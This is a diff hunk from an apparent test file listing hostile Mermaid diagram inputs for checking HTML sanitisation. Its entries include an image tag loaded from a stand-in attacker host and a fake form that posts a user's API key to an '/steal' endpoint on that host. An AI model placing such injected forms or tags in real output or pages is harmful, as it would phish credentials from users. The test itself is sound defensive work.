@@ -12,7 +12,7 @@ HOSTILE: dict[str, str] = {
     "img_label": f'graph TD\n  A["<img src={EVIL}/img.png>"] --> B',
     "details": 'graph TD\n  A["<details open><summary>More</summary>hidden text</details>"] --> B',
     "fake_key_form": (
-        f'graph TD\n  A["<form action={EVIL}/steal><input name=key placeholder=\'Re-enter your API key\'>'
+        f"graph TD\n  A[\"<form action={EVIL}/steal><input name=key placeholder='Re-enter your API key'>"
         '<button>Continue</button></form>"] --> B'
     ),
     "front_matter_after_blank": (
